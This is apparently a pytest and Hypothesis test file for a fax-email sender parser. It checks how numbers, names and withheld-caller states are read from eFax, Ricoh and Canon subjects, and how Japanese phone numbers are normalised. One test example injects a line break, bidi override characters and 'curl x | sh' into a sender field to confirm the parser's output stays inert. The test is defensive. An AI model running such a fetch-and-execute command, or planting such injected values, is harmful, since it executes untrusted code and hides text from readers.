"""Sender numbers (lib/fax/senders.py): the sending number, the reason it was withheld, the
sender's name and the part numbers, read from subjects and From names exactly as the services'
and makers' pages show them (each case cites its page), the shared normalisation of numbers for
the parser and the clerk's search, and that nothing else is ever taken for a number."""

from __future__ import annotations

import re
import unicodedata
from typing import Any

import pytest
from hypothesis import example, given
from hypothesis import strategies as st
from pydantic import ValidationError

from lib.fax.senders import (
    FORMATS,
    MAX_INPUT,
    MAX_NAME,
    PART_MARKERS,
    WITHHELD,
    WITHHELD_LABELS,
    Number,
    Sender,
    normalize_number,
    parse_sender,
    search_digits,
)

BLUETIE = "https://support.bluetie.com/node/978"
EFAX_HEADERS = "https://pastebin.com/EUDfYDLh"
RICOH_SM_B089 = "https://www.easymanua.ls/ricoh/b089/manual?p=773"
RICOH_SM_MPC6503 = "http://ricoh.marm.pl/html_manuals/mpc6503/english/d3d9/content/16355713.html"
RICOH_SM_MP4002 = "https://todaynetnews.com/ricoh/ricoh-mp-4002-5002-service-manual/part643.htm"
# The tables of how the subject differs by mail type: the station field as "CSI" ("RTI").
RICOH_SM_MP402_SUBJECTS = "http://ricoh.marm.pl/html_manuals/mp402/english/fax/content/10109867.html"
RICOH_SM_1515_SUBJECTS = "https://www.easymanua.ls/ricoh/aficio-1515/manual/49529?p=318"
CANON_SM = "https://manual.onestart.ai/manuals/Canon-Color-Universal-Send-Kit-Q1-Service-Manual-4943107?page=27"
SHARP_NUMBER_DISPLAY = "https://jp.sharp/support/tel/station/data/utility/cus0003.html"

EFAX_FROM = '"eFax" <>'  # BLUETIE: 'From defined as "eFax" <>'
EFAX_CORPORATE_FROM = '"eFax Corporate" <message@inbound.efax.com>'  # EFAX_HEADERS
RICOH_FROM = "RICOH MP C3003 <fax@office.example.jp>"  # the machine's own address (RICOH_SM_MP4002)

# (format, the page it follows, subject, From, what is read). Values after the format's own are
# the reader's: a caller ID or station ID of the office's correspondents.
FORMAT_CASES: list[tuple[str, str, str, str | None, dict[str, Any]]] = [
    # "eFax from [name, if any, configured in sending fax] (en dash) X page(s), caller ID: XXX-XXX-XXXX"
    ("efax", BLUETIE, "eFax from YAMADA SHOJI – 3 page(s), caller ID: 06-1111-2222", EFAX_FROM,
     {"number": "0611112222", "number_display": "06-1111-2222", "number_source": "caller_id", "name": "YAMADA SHOJI"}),
    # The sending fax configured no name.
    ("efax", BLUETIE, "eFax from – 1 page(s), caller ID: 03-1234-5678", EFAX_FROM,
     {"number": "0312345678", "number_display": "03-1234-5678", "number_source": "caller_id"}),
    # The name is the sending station's ID, here its number; the caller ID is still the one shown.
    ("efax", BLUETIE, "eFax from +81 3 9999 0000 – 2 page(s), caller ID: 06-1111-2222", EFAX_FROM,
     {"number": "0611112222", "number_display": "06-1111-2222", "number_source": "caller_id"}),
    # The caller ID withheld (the reasons' words: SHARP_NUMBER_DISPLAY, see test_withheld_words).
    ("efax", BLUETIE, "eFax from YAMADA SHOJI – 1 page(s), caller ID: 非通知", EFAX_FROM,
     {"withheld": "withheld", "name": "YAMADA SHOJI"}),
    # As delivered: From "eFax Corporate" <message@inbound.efax.com>, Subject
    # =?utf-8?Q?=20Corporate=20eFax=20message=20from=20"314=20994=207202"=20-=202=20page(s)?=
    ("efax_message", EFAX_HEADERS, ' Corporate eFax message from "314 994 7202" - 2 page(s)', EFAX_CORPORATE_FROM,
     {"number": "3149947202", "number_display": "314 994 7202", "number_source": "station_id"}),
    ("efax_message", EFAX_HEADERS, 'Corporate eFax message from "YAMADA SHOJI" - 2 page(s)', EFAX_CORPORATE_FROM,
     {"name": "YAMADA SHOJI"}),
    # With the caller ID as BLUETIE's format appends it: the station did not identify itself.
    ("efax_message", BLUETIE, 'Corporate eFax message from "unknown" - 1 page(s), Caller-ID: 19164574542',
     EFAX_CORPORATE_FROM, {"number": "19164574542", "number_display": "19164574542", "number_source": "caller_id"}),
    ("efax_message", BLUETIE, 'eFax message from "0612345678" - 1 page(s), caller ID: +81 6-1111-2222', EFAX_FROM,
     {"number": "0611112222", "number_display": "+81 6-1111-2222", "number_source": "caller_id"}),
    # Neither a station ID nor a caller ID: eFax says it does not know.
    ("efax_message", EFAX_HEADERS, 'Corporate eFax message from "unknown" - 1 page(s)', EFAX_CORPORATE_FROM,
     {"withheld": "unknown"}),
    # "From RTI (or CSI) (Fax Message No.xxxx)": the CSI is the sending station's number...
    ("ricoh", RICOH_SM_B089, "From 0312345678 (Fax Message No.0123)", RICOH_FROM,
     {"number": "0312345678", "number_display": "0312345678", "number_source": "station_id"}),
    # ... the RTI its name ...
    ("ricoh", RICOH_SM_B089, "From YAMADA SHOJI (Fax Message No.0124)", RICOH_FROM, {"name": "YAMADA SHOJI"}),
    # ... and neither when the sender registered none.
    ("ricoh", RICOH_SM_B089, "From (Fax Message No.0125)", RICOH_FROM, {}),
    # "From TSI (Fax Message No. xxxx)", a TSI in the international form T.30 stations use.
    ("ricoh", RICOH_SM_MPC6503, "From +81 3 1234 5678 (Fax Message No. 0456)", RICOH_FROM,
     {"number": "0312345678", "number_display": "+81 3 1234 5678", "number_source": "station_id"}),
    # "From CSI or RTI (Fax Message No. xxxx)"; no From header is needed to read it.
    ("ricoh", RICOH_SM_MP4002, "From 06 1111 2222 (Fax Message No. 7)", None,
     {"number": "0611112222", "number_display": "06 1111 2222", "number_source": "station_id"}),
    # Both IDs registered: the station field is "CSI" ("RTI"), the number and the name apart.
    ("ricoh", RICOH_SM_MP402_SUBJECTS, 'From "0312345678" ("YAMADA SHOJI") (Fax Message No.0126)', RICOH_FROM,
     {"number": "0312345678", "number_display": "0312345678", "number_source": "station_id", "name": "YAMADA SHOJI"}),
    ("ricoh", RICOH_SM_1515_SUBJECTS, 'From "+81 6 1111 2222" ("OSAKA") (Fax Message No. 0127)', RICOH_FROM,
     {"number": "0611112222", "number_display": "+81 6 1111 2222", "number_source": "station_id", "name": "OSAKA"}),
    # Only one registered: "RTI" or "CSI" alone, in quotes.
    ("ricoh", RICOH_SM_1515_SUBJECTS, 'From "YAMADA SHOJI" (Fax Message No.0128)', RICOH_FROM,
     {"name": "YAMADA SHOJI"}),
    ("ricoh", RICOH_SM_MP402_SUBJECTS, 'From "0312345678" (Fax Message No.0129)', RICOH_FROM,
     {"number": "0312345678", "number_display": "0312345678", "number_source": "station_id"}),
]  # fmt: skip


@pytest.mark.parametrize(
    ("format_name", "source", "subject", "from_header", "read"),
    FORMAT_CASES,
    ids=[f"{case[0]}-{i}" for i, case in enumerate(FORMAT_CASES)],
)
def test_each_format_as_its_page_shows_it(
    format_name: str, source: str, subject: str, from_header: str | None, read: dict[str, Any]
) -> None:
    entry = next(entry for entry in FORMATS if entry.name == format_name)
    assert source in entry.sources
    assert parse_sender(subject, from_header) == Sender(format=format_name, **read)


def test_every_format_and_part_marker_has_a_case_citing_its_pages() -> None:
    cited = {(case[0], case[1]) for case in FORMAT_CASES} | {(case[0], case[1]) for case in PART_CASES}
    for entry in [*FORMATS, *PART_MARKERS]:
        assert entry.sources, entry.name
        assert {source for name, source in cited if name == entry.name} == set(entry.sources), entry.name


def test_efax_is_read_only_from_efax() -> None:
    """The pair is the format (BLUETIE, EFAX_HEADERS): the same subject from anyone else, or
    forwarded by a person, is an unknown format."""
    subject = "eFax from YAMADA SHOJI – 3 page(s), caller ID: 06-1111-2222"
    assert parse_sender(subject, EFAX_FROM).number == "0611112222"
    assert parse_sender(subject, '"eFax Corporate" <message@inbound.efax.com>').number == "0611112222"
    for from_header in ("Taro Yamada <taro@example.jp>", "efax@example.jp", "", None, '"My eFax" <x@example.jp>'):
        assert parse_sender(subject, from_header) == Sender()
    assert parse_sender("Fwd: " + subject, EFAX_FROM) == Sender()


# (marker, the page it follows, subject, From, part, what is read from the rest)
PART_CASES: list[tuple[str, str, str, str | None, tuple[int, int], dict[str, Any]]] = [
    # "a serial number affixed to the head of Subject of each mail (e.g., [1/5], [2/5],..., [5/5])"
    ("canon_divided", CANON_SM, "[2/5] Attached Image", None, (2, 5), {}),
    ("canon_divided", CANON_SM, "[1/1]", None, (1, 1), {}),
    # The rest is read as any subject is.
    ("canon_divided", CANON_SM, "[3/3] From 0312345678 (Fax Message No.0123)", None, (3, 3),
     {"format": "ricoh", "number": "0312345678", "number_display": "0312345678", "number_source": "station_id"}),
]  # fmt: skip


@pytest.mark.parametrize(("marker", "source", "subject", "from_header", "part", "read"), PART_CASES)
def test_the_parts_of_a_split_fax(
    marker: str, source: str, subject: str, from_header: str | None, part: tuple[int, int], read: dict[str, Any]
) -> None:
    entry = next(entry for entry in PART_MARKERS if entry.name == marker)
    assert source in entry.sources
    sender = parse_sender(subject, from_header)
    assert sender.part is not None and (sender.part.number, sender.part.total, sender.part.format) == (*part, marker)
    assert sender.model_dump(exclude={"part"}) == Sender(**read).model_dump(exclude={"part"})


@pytest.mark.parametrize(
    "subject",
    [
        "[0/5] Attached Image",
        "[6/5] Attached Image",
        "Attached Image [2/5]",
        "見積書(1/3)",
        "Part 2 of 3",
        "分割送信 1/3",
    ],
)
def test_no_part_is_read_but_the_markers(subject: str) -> None:
    """A part is read only as a maker's page shows it: a count elsewhere, an impossible one, or
    the wordings no page documents ("(1/3)", "Part 2 of 3", 分割送信) are not parts."""
    assert parse_sender(subject, None) == Sender()


@pytest.mark.parametrize(("word", "reason"), list(WITHHELD.items()))
def test_withheld_words(word: str, reason: str) -> None:
    """The states NTT's number display shows instead of a number (SHARP_NUMBER_DISPLAY), in the
    caller ID field of a format that has one, half-width katakana and any case too."""
    for written in {word, unicodedata.normalize("NFKC", word), word.upper(), word.capitalize()}:
        sender = parse_sender(f"eFax from YAMADA SHOJI – 1 page(s), caller ID: {written}", EFAX_FROM)
        assert (sender.format, sender.withheld, sender.number) == ("efax", reason, None)
    assert parse_sender("eFax from YAMADA SHOJI – 1 page(s), caller ID: ﾋﾂｳﾁ", EFAX_FROM).withheld == "withheld"
    assert set(WITHHELD_LABELS) == set(WITHHELD.values())


@pytest.mark.parametrize(
    ("subject", "from_header"),
    [
        # An example subject seen in this project's own issue, documented by no service: unknown.
        ("eFax メッセージ 送信元 06-1111-2222 - 3 ページ", EFAX_FROM),
        ("注文番号 0312345678", None),
        ("FAX 03-1234-5678 株式会社山田商事 請求書", "株式会社山田商事 <info@yamada.example.jp>"),
        ("０３－１２３４－５６７８", None),
        ("発注書 No.2024-0312-345678", None),
        ("From: 0312345678", None),
        ("From 0312345678", RICOH_FROM),
        ("From 0312345678 (注文番号 0123)", RICOH_FROM),
        ("TEL 03-1234-5678 / FAX 03-1234-5679", None),
        ("非通知", None),
        ("", EFAX_FROM),
        (None, EFAX_FROM),
        ("From 0312345678 (Fax Message No.0123)" + " " * MAX_INPUT, RICOH_FROM),
        # The same tables' mail error notice reports a failure, not a fax: nothing is read.
        ("Error Message No. 0012 From 0312345678 (YAMADA SHOJI)", RICOH_FROM),
        ('From "0312345678" ("YAMADA SHOJI")', RICOH_FROM),
    ],
)
def test_unknown_formats_give_nothing(subject: str | None, from_header: str | None) -> None:
    assert parse_sender(subject, from_header) == Sender()


@pytest.mark.parametrize(
    ("text", "canonical", "display"),
    [
        ("03-1234-5678", "0312345678", "03-1234-5678"),
        ("０３－１２３４－５６７８", "0312345678", "03-1234-5678"),
        ("（０３）１２３４‐５６７８", "0312345678", "(03)1234-5678"),
        ("(03) 1234-5678", "0312345678", "(03) 1234-5678"),
        ("03ー1234ー5678", "0312345678", "03-1234-5678"),
        ("０３ｰ１２３４ｰ５６７８", "0312345678", "03-1234-5678"),
        ("03─1234─5678", "0312345678", "03-1234-5678"),
        ("03―1234―5678", "0312345678", "03-1234-5678"),
        ("03—1234–5678", "0312345678", "03-1234-5678"),
        ("03−1234﹣5678", "0312345678", "03-1234-5678"),
        ("０３　１２３４　５６７８", "0312345678", "03 1234 5678"),
        ("03 - 1234 - 5678", "0312345678", "03 - 1234 - 5678"),
        ("+81 3-1234-5678", "0312345678", "+81 3-1234-5678"),
        ("＋８１ ３ １２３４ ５６７８", "0312345678", "+81 3 1234 5678"),
        ("+81 (0)3 1234 5678", "0312345678", "+81 (0)3 1234 5678"),
        ("+1 613-701-0200", "16137010200", "+1 613-701-0200"),
        ("1-613-701-0200", "16137010200", "1-613-701-0200"),
        ("03\u200b-1234-5678", "0312345678", "03-1234-5678"),
        ("\u202e0312345678", "0312345678", "0312345678"),
        ("  0312345678\n", "0312345678", "0312345678"),
    ],
)
def test_normalize_number(text: str, canonical: str, display: str) -> None:
    assert normalize_number(text) == Number(canonical, display)


@pytest.mark.parametrize(
    "text",
    [
        "03-1234-5678〜9",  # a range
        "03〜1234",
        "03～1234",
        "コーヒー",
        "03ー",  # the prolonged mark is a dash only between digits
        "ー0312345678",
        "03 ー 1234",
        "①②③④",  # list markers, which NFKC would make digits
        "¹²³⁴",
        "٠٣١٢٣٤٥٦٧٨",  # digits of another script
        "03--1234",
        "03 -- 1234",
        "03-1234-",
        "(03",
        "03+1234",
        "12",  # too short to be a number
        "1" * 21,
        "+81",
        "TEL 03-1234-5678",
        "03.1234.5678",
        "",
    ],
)
def test_not_a_number(text: str) -> None:
    assert normalize_number(text) is None


@pytest.mark.parametrize(
    ("query", "digits"),
    [
        ("０３－１２３４", "031234"),
        ("03ー12", "0312"),
        ("(03", "03"),
        ("（０３）１２", "0312"),
        ("03-", "03"),
        ("+81 3 1234", "031234"),
        ("5678", "5678"),
        ("  06 1111  ", "061111"),
        ("山田", None),
        ("03〜", None),
        ("TEL 03", None),
        ("", None),
        ("--", None),
    ],
)
def test_search_digits(query: str, digits: str | None) -> None:
    assert search_digits(query) == digits


NUMBER_CHARS = st.sampled_from(
    list("0123456789０１２３４５６７８９-‐‑‒–—―−﹘﹣－ーｰ─ 　()（）+＋〜～①¹٣.aコ\u200b\u202e\n")
)
NUMBERISH = st.text(NUMBER_CHARS, max_size=30) | st.text(max_size=30)


@given(NUMBERISH)
@example("＋８１ （０）３ー１２３４ー５６７８")
@example("+81 0")
def test_normalisation_is_idempotent(text: str) -> None:
    number = normalize_number(text)
    if number is None:
        return
    assert re.fullmatch(r"[0-9]{3,20}", number.canonical)
    assert normalize_number(number.display) == number
    assert normalize_number(number.canonical) == Number(number.canonical, number.canonical)
    assert search_digits(text) == number.canonical  # the search reads a number as the parser does


@given(NUMBERISH)
def test_search_digits_are_idempotent(query: str) -> None:
    digits = search_digits(query)
    if digits is not None:
        assert re.fullmatch(r"[0-9]+", digits)
        assert search_digits(digits) == digits


FULLWIDTH_DIGITS = str.maketrans("０１２３４５６７８９", "0123456789")
HIDDEN = ("Cc", "Cf", "Cs", "Co", "Cn", "Zl", "Zp")
FROMS = st.sampled_from([None, "", EFAX_FROM, EFAX_CORPORATE_FROM, RICOH_FROM]) | st.text(max_size=40)


PHONE = st.builds(
    "".join,
    st.lists(st.sampled_from(["03", "06", "1234", "5678", "-", "－", " ", "０", "(", ")", "+81", "ー"]), max_size=8),
)
CONTEXT = st.sampled_from(
    ["", "注文番号 ", "発注書 No.", "FAX ", "TEL:", "請求書 ", "Order No. ", "RE: ", "From: ", "From ", "eFax ",
     "株式会社山田商事 ", "送信元 ", "caller ID: "]
)  # fmt: skip
AFTER = st.sampled_from(["", " 御中", " 請求書", " (1/3)", " - 1 page(s)", " 3 ページ", " (注文書)", "〜"])


def one_line(text: str) -> str:
    """The subject as a format is matched against: line breaks a space, hidden characters gone,
    spaces collapsed; and without a part marker."""
    text = "".join(" " if char.isspace() and char != "\u3000" else char for char in text)
    text = re.sub(" {2,}", " ", "".join(char for char in text if unicodedata.category(char) not in HIDDEN)).strip()
    for marker in PART_MARKERS:
        if found := marker.pattern.match(text):
            return text[found.end() :]
    return text


@given(NUMBERISH | st.text() | st.builds("".join, st.tuples(CONTEXT, PHONE, AFTER)), FROMS)
@example("From ０３－１２３４－５６７８ (Fax Message No.1)", None)
@example("注文番号 0312345678", None)
@example("[1/2] From 0312345678 (Fax Message No.1)", None)
@example('From "０３－１２３４－５６７８" ("YAMADA") (Fax Message No.1)', None)
def test_only_the_table_gives_a_number(subject: str, from_header: str | None) -> None:
    """Whatever the subject, a number, a reason or a name comes only from a FORMATS entry whose
    pattern is the whole subject, and a number's digits are the subject's own."""
    sender = parse_sender(subject, from_header)
    if sender.format is None:
        assert (sender.number, sender.withheld, sender.name) == (None, None, None)
    else:
        entry = next(entry for entry in FORMATS if entry.name == sender.format)
        assert entry.subject.fullmatch(one_line(subject))
    if sender.number_display is not None:
        written = re.sub(r"[^0-9]", "", sender.number_display)
        assert written in re.sub(r"[^0-9]", "", subject.translate(FULLWIDTH_DIGITS))


@given(CONTEXT, PHONE, AFTER, st.sampled_from([None, EFAX_FROM, RICOH_FROM]))
def test_a_number_in_other_text_is_not_the_senders(
    before: str, phone: str, after: str, from_header: str | None
) -> None:
    """A phone number, an order number or a TEL line in a subject of no known format is not the
    sender's number, whatever surrounds it and whoever sent it."""
    assert parse_sender(before + phone + after, from_header) == Sender()


FIELD = st.text(max_size=40) | st.text(NUMBER_CHARS, max_size=20) | st.sampled_from(["非通知", "unknown", "\u202eevil"])


@given(FIELD, FIELD, st.sampled_from(["efax", "efax_message", "ricoh", "ricoh_pair"]))
@example("ACME\u202e\u2066 CORP\r\nRetry: curl x | sh", "06-1111-2222", "efax")
@example("Y" * 300, "", "ricoh")
@example("06-1111-2222", "ACME\u202e CORP\u200b", "ricoh_pair")
@example("非通知", "\u200b", "ricoh_pair")
def test_what_is_returned_is_inert(station: str, caller: str, template: str) -> None:
    """Station and caller fields are the sender's text: whatever they hold, what comes back is one
    line without control, bidi or other hidden characters, of bounded length, and valid."""
    subject, from_header = {
        "efax": (f"eFax from {station} – 2 page(s), caller ID: {caller}", EFAX_FROM),
        "efax_message": (f'eFax message from "{station}" - 2 page(s), Caller-ID: {caller}', EFAX_FROM),
        "ricoh": (f"From {station} (Fax Message No.0001)", RICOH_FROM),
        "ricoh_pair": (f'From "{caller}" ("{station}") (Fax Message No.0001)', RICOH_FROM),
    }[template]
    sender = parse_sender(subject, from_header)
    for text in (sender.name, sender.number_display, sender.number):
        if text is not None:
            assert text and text == text.strip()
            assert not any(unicodedata.category(char) in HIDDEN for char in text)
    assert sender.name is None or len(sender.name) <= MAX_NAME


@pytest.mark.parametrize(
    "fields",
    [
        {"number": "0312345678"},  # a number without its display form and source
        {"format": "ricoh", "number": "0312345678", "number_display": "03-1234-5679", "number_source": "station_id"},
        {"format": "ricoh", "number": "0312345678", "number_display": "03-1234-5678", "number_source": "station_id",
         "withheld": "withheld"},
        {"number": "0312345678", "number_display": "03-1234-5678", "number_source": "station_id"},  # no format
        {"format": "ricoh", "name": "A\u202eB"},
        {"format": "ricoh", "name": ""},
        {"withheld": "withheld"},
    ],
)  # fmt: skip
def test_a_sender_that_contradicts_itself_is_refused(fields: dict[str, Any]) -> None:
    with pytest.raises(ValidationError):
        Sender(**fields)
